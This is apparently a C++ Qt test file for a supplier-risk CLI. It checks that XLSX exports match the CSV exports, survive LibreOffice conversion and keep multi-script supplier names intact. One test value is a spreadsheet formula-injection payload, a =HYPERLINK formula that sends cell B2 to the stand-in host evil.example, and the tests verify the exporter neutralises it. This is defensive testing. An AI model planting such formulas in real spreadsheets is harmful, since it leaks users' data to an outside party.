// vigil-cli's XLSX exports (export suppliers, report --kind scores|findings|actions --format xlsx): workbooks written
// by libxlsxwriter in vigil-xlsxwriter, read back by our own reader (TableReader, on QuaZip) and by LibreOffice.
#include "libreoffice.h"
#include "testsupport.h"

#include "exporter/supplierexporter.h"
#include "io/tablereader.h"
#include "risk/riskrepository.h"
#include "storage/database.h"
#include "storage/sampleportfolio.h"
#include "storage/supplierrepository.h"
#include "util/uuid.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QTemporaryDir>
#include <QTest>

using namespace vigil;
using vigil::test::Office;
using vigil::test::runCli;
using vigil::test::runCliEnv;
using vigil::test::runProgram;
using vigil::test::soffice;

namespace {

const QString kHostile = QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&B2,\"Invoice\") Foods");
// One name per script the suppliers' names use: Thai, Burmese, Bengali, Chinese, Vietnamese.
const QStringList kNames{QStringLiteral("บริษัท สยามซีฟู้ด จำกัด"), QStringLiteral("မြတ်သီတာ အထည်ချုပ်"),
                         QStringLiteral("নীলাচল ফুটওয়্যার লিমিটেড"), QStringLiteral("广州明华服装有限公司"),
                         QStringLiteral("Công ty TNHH Thủy sản Phúc An")};

// Every row of a table file (CSV or one XLSX sheet) as our reader sees it, header first.
QList<QStringList> readAll(const QString& path, const QString& sheet = {}, QString* error = nullptr)
{
    ReaderOptions options;
    options.sheet = sheet;
    options.headerRow = 1;
    auto reader = TableReader::create(path, options);
    QList<QStringList> rows;
    if (Status st = reader->open(); !st) {
        if (error)
            *error = st.error().toString();
        return rows;
    }
    QStringList row;
    while (reader->next(row)) {
        // CSV rows run to the last delimiter, XLSX rows to the last cell with a value: compare them without
        // trailing empty cells.
        while (!row.isEmpty() && row.last().isEmpty())
            row.removeLast();
        rows << row;
    }
    if (reader->failed() && error)
        *error = reader->error().toString();
    return rows;
}

QStringList sheetNames(const QString& path)
{
    auto reader = TableReader::create(path);
    return reader->open() ? reader->sheetNames() : QStringList();
}

// Cells equal, numbers compared as numbers (LibreOffice writes 15 significant digits).
bool sameCell(const QString& a, const QString& b)
{
    bool okA = false;
    bool okB = false;
    const double x = a.toDouble(&okA);
    const double y = b.toDouble(&okB);
    if (okA && okB)
        return qAbs(x - y) <= 1e-9 * std::max(1.0, qAbs(x));
    return a == b;
}

} // namespace

class TestCliExport : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void suppliersXlsxReadBack();
    void suppliersXlsxByLibreOffice();
    void suppliersImportRoundTrip();
    void dataExportsWithAboutSheet_data();
    void dataExportsWithAboutSheet();
    void findingsByLibreOffice();
    void helperMissingOrFound();

private:
    QString ws() const { return m_dir.filePath(QStringLiteral("w.vigil")); }
    QString out(const QString& name) const { return m_dir.filePath(name); }
    // LibreOffice converts every sheet of `xlsx` to <base>-<sheet>.csv in `dir` (UTF-8).
    bool libreOfficeCsv(const QString& xlsx, const QString& dir, QByteArray* log);
    QTemporaryDir m_dir;
    QString m_id;
    qint64 m_suppliers = 0;
};

void TestCliExport::initTestCase()
{
    QVERIFY(m_dir.isValid());
    QVERIFY(QFile::exists(vigil::test::cliPath()));
    auto db = Database::open(ws(), Database::Mode::CreateIfMissing);
    QVERIFY2(db.ok(), qPrintable(db.error().toString()));
    QVERIFY(loadSamplePortfolio(*db.value()).ok());
    SupplierRecord r;
    m_id = newUuid();
    r.supplier.id = m_id;
    r.supplier.name = kHostile;
    r.supplier.otherNames = kNames;
    r.supplier.country = QStringLiteral("TH");
    r.supplier.sector = QStringLiteral("fishing");
    r.supplier.products = {QStringLiteral("Fish"), QStringLiteral("-Shrimp")};
    r.supplier.address = QStringLiteral("@ 12 Moo 3, Mahachai, Samut Sakhon");
    QVERIFY(SupplierRepository(*db.value()).add(r).ok());
    RiskObservation o;
    o.indicatorId = QStringLiteral("ilo_07_retention_of_identity_documents");
    o.status = ObservationStatus::Present;
    o.sourceType = QStringLiteral("audit");
    o.date = QDate(2026, 1, 10);
    QVERIFY(RiskRepository(*db.value()).addObservation(m_id, o).ok());
    m_suppliers = SupplierRepository(*db.value()).ids({}).value().size();
    QVERIFY(m_suppliers > 100);
}

bool TestCliExport::libreOfficeCsv(const QString& xlsx, const QString& dir, QByteArray* log)
{
    QDir().mkpath(dir);
    auto conv
        = runProgram(soffice(Office::Calc),
                     {QStringLiteral("-env:UserInstallation=file://") + out(QStringLiteral("lo-profile")),
                      QStringLiteral("--headless"), QStringLiteral("--convert-to"),
                      QStringLiteral("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"),
                      QStringLiteral("--outdir"), dir, xlsx},
                     240000);
    *log = conv.out + conv.err;
    return conv.exitCode == 0;
}

void TestCliExport::suppliersXlsxReadBack()
{
    const QString xlsx = out(QStringLiteral("suppliers.xlsx"));
    const QString csv = out(QStringLiteral("suppliers.csv"));
    for (const QString& f : {xlsx, csv}) {
        auto r = runCli({QStringLiteral("export"), QStringLiteral("suppliers"), QStringLiteral("-w"), ws(),
                         QStringLiteral("--out"), f});
        QVERIFY2(r.exitCode == 0, r.err.constData());
    }
    QCOMPARE(sheetNames(xlsx), QStringList{QStringLiteral("Suppliers")});
    QString error;
    const QList<QStringList> x = readAll(xlsx, QStringLiteral("Suppliers"), &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QCOMPARE(x.size(), 1 + m_suppliers);
    QCOMPARE(x.first(), SupplierExporter::columns());
    // The XLSX holds exactly what the CSV holds, cell for cell, as our reader sees both.
    const QList<QStringList> c = readAll(csv);
    QCOMPARE(x, c);
    // The hostile supplier: guarded, every script intact.
    const int name = int(SupplierExporter::columns().indexOf(QStringLiteral("name")));
    const int other = int(SupplierExporter::columns().indexOf(QStringLiteral("other_names")));
    const int address = int(SupplierExporter::columns().indexOf(QStringLiteral("address")));
    const int products = int(SupplierExporter::columns().indexOf(QStringLiteral("products")));
    bool found = false;
    for (const QStringList& row : x) {
        if (row.value(0) != m_id)
            continue;
        found = true;
        QCOMPARE(row.value(name), QLatin1Char('\'') + kHostile);
        QCOMPARE(row.value(other), kNames.join(QStringLiteral(" | ")));
        QCOMPARE(row.value(address), QStringLiteral("'@ 12 Moo 3, Mahachai, Samut Sakhon"));
        QCOMPARE(row.value(products), QStringLiteral("Fish | -Shrimp"));
    }
    QVERIFY(found);
}

void TestCliExport::suppliersXlsxByLibreOffice()
{
    if (soffice(Office::Calc).isEmpty())
        QSKIP("LibreOffice Calc is not installed: apt-get install libreoffice-calc-nogui");
    const QString xlsx = out(QStringLiteral("lo-suppliers.xlsx"));
    auto r = runCli({QStringLiteral("export"), QStringLiteral("suppliers"), QStringLiteral("-w"), ws(),
                     QStringLiteral("--format"), QStringLiteral("xlsx"), QStringLiteral("--out"), xlsx});
    QVERIFY2(r.exitCode == 0, r.err.constData());
    const QString dir = out(QStringLiteral("lo-suppliers"));
    QByteArray log;
    QVERIFY2(libreOfficeCsv(xlsx, dir, &log), log.constData());
    const QString back = dir + QStringLiteral("/lo-suppliers-Suppliers.csv");
    const QList<QStringList> b = readAll(back);
    const QList<QStringList> mine = readAll(xlsx, QStringLiteral("Suppliers"));
    QCOMPARE(b.size(), mine.size());
    for (int i = 0; i < mine.size(); ++i) {
        // LibreOffice leaves out trailing empty cells like our reader does.
        QCOMPARE(b.at(i).size(), mine.at(i).size());
        for (int c = 0; c < mine.at(i).size(); ++c)
            QVERIFY2(sameCell(b.at(i).at(c), mine.at(i).at(c)),
                     qPrintable(
                         QStringLiteral("row %1 col %2: %3 vs %4").arg(i).arg(c).arg(b.at(i).at(c), mine.at(i).at(c))));
    }
    bool hostile = false;
    for (const QStringList& row : b)
        hostile = hostile || row.value(1) == QLatin1Char('\'') + kHostile;
    QVERIFY2(hostile, "LibreOffice shows the hostile cell as guarded text, not a formula's result");
}

// Importing the XLSX export gives the same workspace as importing the CSV export, and the hostile, multi-script
// supplier comes back exactly. (Both imports merge 2 of the sample's 208 suppliers whose names the importer's fuzzy
// matching takes for one; that is the importer's matching, the same for both formats.)
void TestCliExport::suppliersImportRoundTrip()
{
    QMap<QString, QJsonArray> lists;
    for (const QString& format : {QStringLiteral("xlsx"), QStringLiteral("csv")}) {
        const QString file = out(QStringLiteral("roundtrip.") + format);
        auto r = runCli({QStringLiteral("export"), QStringLiteral("suppliers"), QStringLiteral("-w"), ws(),
                         QStringLiteral("--out"), file});
        QVERIFY2(r.exitCode == 0, r.err.constData());
        const QString other = out(QStringLiteral("other-%1.vigil").arg(format));
        QCOMPARE(runCli({QStringLiteral("init"), QStringLiteral("-w"), other}).exitCode, 0);
        // The sample portfolio has look-alike names that the importer would hold for review: take them as new.
        r = runCli({QStringLiteral("import"), QStringLiteral("-w"), other, file,
                    QStringLiteral("--possible-duplicates"), QStringLiteral("new"), QStringLiteral("--json")});
        QVERIFY2(r.exitCode == 0, r.err.constData());
        const auto list = runCli({QStringLiteral("suppliers"), QStringLiteral("list"), QStringLiteral("-w"), other,
                                  QStringLiteral("--json")});
        lists.insert(format, QJsonDocument::fromJson(list.out).array());
        auto db = Database::open(other);
        QVERIFY(db.ok());
        auto rec = SupplierRepository(*db.value()).record(m_id);
        QVERIFY2(rec.ok(), qPrintable(rec.error().toString()));
        QCOMPARE(rec->supplier.name, kHostile);
        QCOMPARE(rec->supplier.otherNames, kNames);
        QCOMPARE(rec->supplier.address, QStringLiteral("@ 12 Moo 3, Mahachai, Samut Sakhon"));
        QCOMPARE(rec->supplier.products, QStringList({QStringLiteral("Fish"), QStringLiteral("-Shrimp")}));
    }
    const QJsonArray& x = lists[QStringLiteral("xlsx")];
    const QJsonArray& c = lists[QStringLiteral("csv")];
    QVERIFY(x.size() > m_suppliers / 2); // never a vacuous comparison
    QCOMPARE(x.size(), c.size());
    for (qsizetype i = 0; i < x.size(); ++i)
        QVERIFY2(x.at(i) == c.at(i),
                 QJsonDocument(QJsonArray{x.at(i), c.at(i)}).toJson(QJsonDocument::Compact).constData());
}

void TestCliExport::dataExportsWithAboutSheet_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("sheet");
    QTest::addRow("scores") << "scores"
                            << "Scores";
    QTest::addRow("findings") << "findings"
                              << "Findings";
    QTest::addRow("actions") << "actions"
                             << "Actions";
}

void TestCliExport::dataExportsWithAboutSheet()
{
    QFETCH(QString, kind);
    QFETCH(QString, sheet);
    const QString xlsx = out(kind + QStringLiteral(".xlsx"));
    const QString csv = out(kind + QStringLiteral(".csv"));
    for (const QString& f : {xlsx, csv}) {
        auto r = runCli({QStringLiteral("report"), QStringLiteral("--kind"), kind, QStringLiteral("--as-of"),
                         QStringLiteral("2026-06-30"), QStringLiteral("--out"), f, QStringLiteral("-w"), ws()});
        QVERIFY2(r.exitCode == 0, r.err.constData());
    }
    QCOMPARE(sheetNames(xlsx), (QStringList{sheet, QStringLiteral("About")}));
    QString error;
    const QList<QStringList> data = readAll(xlsx, sheet, &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QVERIFY(data.size() >= 1);
    // Same cells as the CSV export (dates as dates come back ISO 8601, numbers in shortest form).
    QCOMPARE(data, readAll(csv));
    const QList<QStringList> about = readAll(xlsx, QStringLiteral("About"), &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QCOMPARE(about.value(0), QStringList({"item", "value", "edition", "publisher", "licence", "source"}));
    QMap<QString, QString> facts;
    QList<QStringList> datasets;
    for (const QStringList& row : about.mid(1)) {
        if (row.value(0) == QLatin1String("dataset"))
            datasets << row;
        else
            facts.insert(row.value(0), row.value(1));
    }
    QCOMPARE(facts.value(QStringLiteral("sheet")), sheet);
    QVERIFY(!facts.value(QStringLiteral("methodology")).isEmpty());
    QVERIFY(!facts.value(QStringLiteral("methodology_version")).isEmpty());
    QVERIFY(QDateTime::fromString(facts.value(QStringLiteral("generated")), Qt::ISODate).isValid());
    QVERIFY(QDateTime::fromString(facts.value(QStringLiteral("generated_utc")), Qt::ISODate).isValid());
    QVERIFY(!datasets.isEmpty());
    for (const QStringList& d : datasets) {
        QVERIFY2(!d.value(1).isEmpty() && !d.value(2).isEmpty() && !d.value(4).isEmpty(),
                 qPrintable(d.join(QLatin1Char('|'))));
    }
}

void TestCliExport::findingsByLibreOffice()
{
    if (soffice(Office::Calc).isEmpty())
        QSKIP("LibreOffice Calc is not installed: apt-get install libreoffice-calc-nogui");
    const QString xlsx = out(QStringLiteral("lo-findings.xlsx"));
    auto r = runCli({QStringLiteral("report"), QStringLiteral("--kind"), QStringLiteral("findings"),
                     QStringLiteral("--format"), QStringLiteral("xlsx"), QStringLiteral("--out"), xlsx,
                     QStringLiteral("-w"), ws()});
    QVERIFY2(r.exitCode == 0, r.err.constData());
    const QString dir = out(QStringLiteral("lo-findings"));
    QByteArray log;
    QVERIFY2(libreOfficeCsv(xlsx, dir, &log), log.constData());
    for (const QString& sheet : {QStringLiteral("Findings"), QStringLiteral("About")}) {
        const QList<QStringList> b = readAll(dir + QStringLiteral("/lo-findings-") + sheet + QStringLiteral(".csv"));
        const QList<QStringList> mine = readAll(xlsx, sheet);
        QVERIFY2(!mine.isEmpty(), qPrintable(sheet));
        QCOMPARE(b.size(), mine.size());
        for (int i = 0; i < mine.size(); ++i) {
            QCOMPARE(b.at(i).size(), mine.at(i).size());
            for (int c = 0; c < mine.at(i).size(); ++c) {
                // The About sheet's generated_utc is a date-time cell: LibreOffice shows it with a space.
                const QString x = mine.at(i).at(c);
                const QString y = b.at(i).at(c);
                QVERIFY2(sameCell(y, x) || QString(x).replace(QLatin1Char('T'), QLatin1Char(' ')) == y,
                         qPrintable(QStringLiteral("%1 row %2 col %3: %4 vs %5").arg(sheet).arg(i).arg(c).arg(y, x)));
            }
        }
    }
    // The hostile supplier's finding: name guarded, date a date.
    const QList<QStringList> b = readAll(dir + QStringLiteral("/lo-findings-Findings.csv"));
    bool found = false;
    for (const QStringList& row : b) {
        if (row.value(0) == m_id) {
            found = true;
            QCOMPARE(row.value(1), QLatin1Char('\'') + kHostile);
            QCOMPARE(row.value(7), QStringLiteral("2026-01-10"));
        }
    }
    QVERIFY(found);
}

void TestCliExport::helperMissingOrFound()
{
    const QString xlsx = out(QStringLiteral("helper.xlsx"));
    const QStringList args{QStringLiteral("export"), QStringLiteral("suppliers"),
                           QStringLiteral("-w"),     ws(),
                           QStringLiteral("--out"),  xlsx};
    auto r = runCliEnv(args, {{QStringLiteral("VIGIL_XLSXWRITER"), out(QStringLiteral("missing/vigil-xlsxwriter"))}});
    QVERIFY(r.exitCode != 0);
    QVERIFY2(r.err.contains("VIGIL_XLSXWRITER") && r.err.contains("not an executable"), r.err.constData());
    QVERIFY(!QFile::exists(xlsx));
    // Without the variable vigil-cli finds the helper beside itself (the build tree and installed layouts).
    r = runCliEnv(args, {{QStringLiteral("VIGIL_XLSXWRITER"), QString()}});
    QVERIFY2(r.exitCode == 0, r.err.constData());
    QCOMPARE(readAll(xlsx, QStringLiteral("Suppliers")).size(), 1 + m_suppliers);
}

QTEST_GUILESS_MAIN(TestCliExport)
#include "tst_cliexport.moc"
